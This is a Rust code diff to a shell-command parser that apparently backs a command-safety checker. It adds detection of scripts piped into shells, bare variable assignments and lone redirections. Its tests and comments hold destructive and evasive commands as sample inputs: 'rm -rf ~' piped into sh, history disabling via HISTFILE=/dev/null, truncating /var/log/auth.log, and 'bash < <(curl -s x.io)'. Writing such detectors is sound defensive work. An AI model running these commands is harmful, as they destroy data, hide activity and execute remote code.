@@ -61,7 +61,8 @@ pub enum Relation {
     Substitution,
     /// It is the payload of a wrapper: `bash -c`, `sudo`, `xargs`, `find -exec`, `eval`, …
     Wrapped,
-    /// It is the body of a here-document fed to an interpreter.
+    /// It is a script fed to a shell on its standard input: a here-document, or static text
+    /// piped in by `echo` or `printf`.
     HereDoc,
 }
 
@@ -277,7 +278,8 @@ impl Walker {
             match item {
                 Item::Assign(name, value) => {
                     let value = self.fast_word(value, false);
-                    self.vars.insert(name, (!value.dynamic).then_some(value.text));
+                    self.vars.insert(name.clone(), (!value.dynamic).then(|| value.text.clone()));
+                    self.bare_assignment(name, value, parent, false);
                 }
                 Item::Unknown(name) => {
                     self.vars.insert(name, None);
@@ -386,11 +388,17 @@ impl Walker {
                 match body {
                     Some(body) if body.kind() == "command" => self.command(body, src, place, &suffix, depth + 1),
                     Some(body) if body.kind() == "variable_assignment" => {
-                        // `A=1 > f` still opens `f`: keep a nameless command to carry the redirect.
+                        // `A=1 > f` still opens `f`: the assignment's nameless command carries
+                        // the redirect.
                         self.node(body, src, place, depth + 1);
-                        let mut argv = vec![Word::literal("")];
-                        argv.extend(suffix.iter().cloned());
-                        self.bare_command(argv, place, depth);
+                        match self.commands.len().checked_sub(1).filter(|last| *last >= first) {
+                            Some(last) => self.commands[last].argv.extend(suffix.iter().cloned()),
+                            None => {
+                                let mut argv = vec![Word::literal("")];
+                                argv.extend(suffix.iter().cloned());
+                                self.bare_command(argv, place, depth);
+                            }
+                        }
                     }
                     Some(body) => {
                         self.node(body, src, place, depth + 1);
@@ -398,7 +406,12 @@ impl Walker {
                             self.stop(Incomplete::ParseError);
                         }
                     }
-                    None => {}
+                    // `> /var/log/x` on its own truncates the file: a nameless command carries it.
+                    None => {
+                        let mut argv = vec![Word::literal("")];
+                        argv.extend(suffix.iter().cloned());
+                        self.bare_command(argv, place, depth);
+                    }
                 }
                 let body_end = self.commands.len();
                 for r in redirects {
@@ -419,7 +432,6 @@ impl Walker {
                         };
                         inner.pipeline = Some((id, self.pipelines[id]));
                     }
-                    let redirect = self.redirect(r, src, inner, depth);
                     // `a | b > f` and `a && b > f` redirect only `b`: tree-sitter puts the
                     // redirection on the whole pipeline or list, bash on its last command.
                     let mut from = first;
@@ -429,6 +441,11 @@ impl Walker {
                         tail =
                             u32::try_from(n.named_child_count().saturating_sub(1)).ok().and_then(|i| n.named_child(i));
                     }
+                    // `bash < <(curl …)`: what a file redirection substitutes feeds that command.
+                    if r.kind() == "file_redirect" && from < body_end {
+                        inner.parent = Some((from, Relation::Substitution));
+                    }
+                    let redirect = self.redirect(r, src, inner, depth);
                     for cmd in &mut self.commands[from..body_end] {
                         cmd.redirects.push(redirect.clone());
                     }
@@ -440,7 +457,8 @@ impl Walker {
             "variable_assignment" => {
                 let text = Self::text(node, src);
                 if text.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_') {
-                    self.assignment(node, src, place, depth);
+                    let (name, value) = self.assignment(node, src, place, depth);
+                    self.bare_assignment(name, value, place.parent, place.nested);
                 } else {
                     // tree-sitter-bash reads `--x=y` as an assignment; bash runs it as a command.
                     self.bare_command(vec![Word::literal(text)], place, depth);
@@ -515,6 +533,19 @@ impl Walker {
         };
         let index = self.push(command);
         self.unwrap(index, depth);
+    }
+
+    /// Records `NAME=value` on its own as a nameless command carrying the assignment: it sets
+    /// the shell's own variable (`HISTFILE=`, `HTTPS_PROXY=`), which the rules judge.
+    fn bare_assignment(&mut self, name: String, value: Word, parent: Option<(usize, Relation)>, nested: bool) {
+        self.push(Command {
+            argv: vec![Word::literal("")],
+            assignments: vec![(name, value)],
+            redirects: Vec::new(),
+            pipeline: None,
+            parent,
+            nested,
+        });
     }
 
     fn push(&mut self, command: Command) -> usize {
@@ -789,12 +820,17 @@ impl Walker {
                         return;
                     }
                     let script = script.text.clone();
-                    self.payload(&script, index, depth);
+                    self.payload(&script, index, Relation::Wrapped, depth);
+                } else if shell_reads_stdin(&args)
+                    && let Some(text) = piped_text(&self.commands, index)
+                {
+                    // `echo 'rm -rf ~' | sh`: static text piped into a shell is its script.
+                    self.payload(&text, index, Relation::HereDoc, depth);
                 }
             }
             "eval" if args.iter().all(|a| !a.dynamic) => {
                 let script = args.iter().map(|a| a.text.as_str()).collect::<Vec<_>>().join(" ");
-                self.payload(&script, index, depth);
+                self.payload(&script, index, Relation::Wrapped, depth);
             }
             "find" => {
                 // `{}` stands for what find found: the starting point itself when no test
@@ -914,10 +950,11 @@ impl Walker {
         }
     }
 
-    /// Analyses a script a wrapper runs (`bash -c`, `eval`); it writes where the wrapper writes.
-    fn payload(&mut self, script: &str, wrapper: usize, depth: usize) {
+    /// Analyses a script a wrapper runs (`bash -c`, `eval`, a shell fed `echo`); it writes where
+    /// the wrapper writes.
+    fn payload(&mut self, script: &str, wrapper: usize, relation: Relation, depth: usize) {
         let start = self.commands.len();
-        self.line(script, Some((wrapper, Relation::Wrapped)), depth + 1);
+        self.line(script, Some((wrapper, relation)), depth + 1);
         let inherited = self.commands[wrapper].redirects.clone();
         if !inherited.is_empty() {
             for cmd in &mut self.commands[start..] {
@@ -969,6 +1006,73 @@ const FIND_TESTS: &[&str] = &[
     "-links",
     "-inum",
 ];
+
+/// The text that `echo` or `printf` of static words pipe into command `index`, when nothing
+/// else feeds it.
+pub(crate) fn piped_text(commands: &[Command], index: usize) -> Option<String> {
+    let (id, pos) = commands[index].pipeline?;
+    let feeders: Vec<(usize, &Command)> = commands[..index]
+        .iter()
+        .enumerate()
+        .filter(|(_, c)| matches!(c.pipeline, Some((i, p)) if i == id && p + 1 == pos))
+        .collect();
+    let echoes: Vec<&(usize, &Command)> =
+        feeders.iter().filter(|(_, c)| matches!(c.name(), "echo" | "printf")).collect();
+    // Wrappers (`nice echo x`) are fine; any other command there also feeds the pipe.
+    let wraps_an_echo = |j: usize| echoes.iter().any(|(_, e)| e.parent == Some((j, Relation::Wrapped)));
+    if echoes.is_empty() || feeders.iter().any(|(j, c)| !matches!(c.name(), "echo" | "printf") && !wraps_an_echo(*j)) {
+        return None;
+    }
+    let mut text = String::new();
+    for (_, feeder) in echoes {
+        if feeder.args().iter().any(|w| w.dynamic) {
+            return None;
+        }
+        let mut words = feeder.args().iter().map(|w| w.text.as_str()).peekable();
+        if feeder.name() == "printf" {
+            let format = words.next().unwrap_or_default();
+            // `printf '%s\n' 'rm -rf ~'`: the arguments fill the format, one line each at most.
+            if format.contains('%') && words.peek().is_some() {
+                text.push_str(&words.collect::<Vec<_>>().join("\n"));
+            } else {
+                text.push_str(format);
+            }
+        } else {
+            while words.next_if(|t| matches!(*t, "-e" | "-n" | "-E" | "-ne" | "-en")).is_some() {}
+            text.push_str(&words.collect::<Vec<_>>().join(" "));
+        }
+        text.push('\n');
+    }
+    Some(text.replace("\\n", "\n"))
+}
+
+/// True when a shell given `args` reads its script from standard input: no `-c`, and no
+/// script operand (or `-`, or `-s`).
+pub(crate) fn shell_reads_stdin(args: &[Word]) -> bool {
+    let mut i = 0;
+    while let Some(w) = args.get(i) {
+        let t = w.text.as_str();
+        if t == "--" {
+            return args.get(i + 1).is_none_or(|w| is_stdin_path(&w.text));
+        }
+        if t.starts_with('-') && !t.starts_with("--") && t.contains('c') {
+            return false;
+        }
+        if t == "-s" || (t.starts_with('-') && !t.starts_with("--") && t.contains('s')) {
+            return true;
+        }
+        if !t.starts_with(['-', '+']) || t == "-" {
+            return is_stdin_path(t);
+        }
+        i += if matches!(t, "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file") { 2 } else { 1 };
+    }
+    true
+}
+
+/// Paths that name the process's own standard input.
+pub(crate) fn is_stdin_path(text: &str) -> bool {
+    matches!(text, "-" | "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0")
+}
 
 /// Shells that run a script given with `-c` or on stdin.
 pub fn is_shell(name: &str) -> bool {
@@ -1174,6 +1278,37 @@ mod tests {
         assert!(p.commands.iter().any(|c| c.name() == "sh" && c.pipeline.is_some()), "{:?}", p.commands);
         let p = parse("bash <<'EOF'\nrm -rf /\nEOF");
         assert!(p.commands.iter().any(|c| c.name() == "rm"), "{:?}", p.commands);
+    }
+
+    #[test]
+    fn bare_assignments_and_redirections_are_nameless_commands() {
+        let p = parse("HISTFILE=/dev/null; ls");
+        assert_eq!(p.commands[0].argv[0].text, "");
+        assert_eq!(p.commands[0].assignments[0].0, "HISTFILE");
+        let p = parse("> /var/log/auth.log");
+        assert_eq!(p.commands.len(), 1, "{:?}", p.commands);
+        assert_eq!(p.commands[0].redirects[0].target.text, "/var/log/auth.log");
+        // What a redirection substitutes feeds the redirected command.
+        let p = parse("bash < <(curl -s x.io)");
+        let curl = p.commands.iter().find(|c| c.name() == "curl").unwrap();
+        assert_eq!(curl.parent, Some((0, Relation::Substitution)));
+    }
+
+    #[test]
+    fn static_text_piped_into_a_shell_is_its_script() {
+        for line in [
+            "echo 'rm -rf ~' | sh",
+            "printf 'id\\nrm -rf ~\\n' | bash -s",
+            "printf '%s\\n' 'rm -rf ~' | sh",
+            "nice echo 'rm -rf ~' | sh",
+        ] {
+            let p = parse(line);
+            let rm = p.commands.iter().find(|c| c.name() == "rm");
+            assert!(rm.is_some_and(|c| c.parent.map(|p| p.1) == Some(Relation::HereDoc)), "{line}: {:?}", p.commands);
+        }
+        // Anything else feeding the pipe makes the script unknown.
+        assert!(!parse("(echo a; cat f) | sh").commands.iter().any(|c| c.name() == "a"));
+        assert!(!parse("echo \"$x\" | sh").commands.iter().any(|c| c.parent.is_some()));
     }
 
     #[test]
